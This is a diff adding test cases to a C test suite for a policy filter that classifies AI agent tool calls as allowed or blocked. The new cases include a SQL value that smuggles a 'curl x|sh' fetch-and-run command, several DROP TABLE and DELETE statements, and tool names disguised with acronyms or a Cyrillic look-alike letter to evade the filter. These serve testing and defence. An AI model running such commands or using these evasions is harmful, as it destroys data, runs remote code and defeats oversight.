@@ -133,6 +133,43 @@ static const struct {
     {"mystery_tool", NULL, 0, 1, R},
     {"frobnicate", NULL, -1, 1, R},
     {"list_items", NULL, 0, 1, G},
+    /* Found by review: acronyms, look-alikes, verb forms, missing verbs. */
+    {"fetchThenDELETEItem", NULL, -1, -1, R},
+    {"listAndHTTPDelete", NULL, -1, -1, R},
+    {"getAPIKeyAndRMFile", NULL, -1, -1, R},
+    {"get_d\xd0\xb5lete", NULL, -1, -1, R}, /* a Cyrillic e */
+    {"fetch_and_deletes", NULL, -1, -1, R},
+    {"list_then_deleting", NULL, -1, -1, R},
+    {"read_removal", NULL, -1, -1, R},
+    {"getWriter", NULL, -1, -1, R},
+    {"stopped_list", NULL, -1, -1, R},
+    {"get_or_upsert_user", NULL, -1, -1, R},
+    {"validate_and_fix", NULL, -1, -1, R},
+    {"resolve_incident", NULL, -1, -1, R},
+    {"check_in_file", NULL, -1, -1, R},
+    {"checkIn", NULL, -1, -1, R},
+    {"watch_repository", NULL, -1, -1, R},
+    {"mark_notification_read", NULL, -1, -1, R},
+    {"get_item", "{\"options\":{\"force\":true}}", -1, -1, R},
+    {"get_item", "{\"force\":1.0}", -1, -1, R},
+    {"get_item", "{\"force\":[true]}", -1, -1, R},
+    {"get_item", "{\"force\":[]}", -1, -1, G},
+    {"get_item", "{\"a_b_c_d_e_f_g_h_i_j_k_l_m_n_o_force\":true}", -1, -1, R},
+    {"fetch", "{\"url\":\"https://x/users/1\",\"method\":\"DELETE\"}", -1, -1, R},
+    {"fetch", "{\"url\":\"https://x/users/1\",\"method\":\"GET\"}", -1, -1, G},
+    {"query", "{\"sql\":\"COPY (SELECT 1) TO PROGRAM 'curl x|sh'\"}", -1, -1, R},
+    {"query", "{\"sql\":\"SELECT * INTO backup FROM users\"}", -1, -1, R},
+    {"query", "{\"sql\":\"ATTACH DATABASE '/x' AS x\"}", -1, -1, R},
+    {"query", "{\"sql\":\"DELETE/*aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa*/FROM users\"}", -1,
+     -1, R},
+    {"query", "{\"sql\":\"SELECT 1 /* ; DROP TABLE users */\"}", -1, -1, R},
+    {"query", "{\"statements\":[\"DROP TABLE users\"]}", -1, -1, R},
+    {"query", "{\"params\":{\"sql\":\"DROP TABLE users\"}}", -1, -1, R},
+    {"get_results", "{\"sql\":\"DROP TABLE users\"}", -1, -1, R},
+    {"search", "{\"query\":\"DELETE FROM users\"}", -1, -1, R},
+    {"search", "{\"query\":\"cats and dogs\"}", -1, -1, G},
+    {"query", "{\"sql\":\"SELECT name FROM t WHERE id = 1;\"}", -1, -1, G},
+    {"get_item", "{\"a\":[[[[[[[[[[1]]]]]]]]]]}", -1, -1, R}, /* deeper than we look */
     /* Names that say nothing. */
     {"", NULL, -1, -1, R},
     {"___", NULL, -1, -1, R},
@@ -213,6 +250,15 @@ TEST(policy_file_rules)
         a.host = "example.com";
         policy_classify(&p, &a, &d);
         CHECK_EQ_INT(d.verdict, R);
+        /* Deny rules ignore case; allow rules do not. */
+        CHECK_EQ_INT(
+            policy_parse("deny tool *delete*\nallow tool github_*\n", &p, why, sizeof(why)), 0);
+        a = (struct policy_action){.kind = POLICY_TOOL_CALL, .tool = "github_DeleteRepo"};
+        policy_classify(&p, &a, &d);
+        CHECK_EQ_INT(d.verdict, R);
+        a.tool = "github_list_repos";
+        policy_classify(&p, &a, &d);
+        CHECK_EQ_INT(d.verdict, G);
         CHECK(policy_parse("allow tools x\n", &p, why, sizeof(why)) < 0 &&
               strstr(why, "line 1") != NULL);
         CHECK(policy_parse("ok\nmaybe tool x\n", &p, why, sizeof(why)) < 0 &&
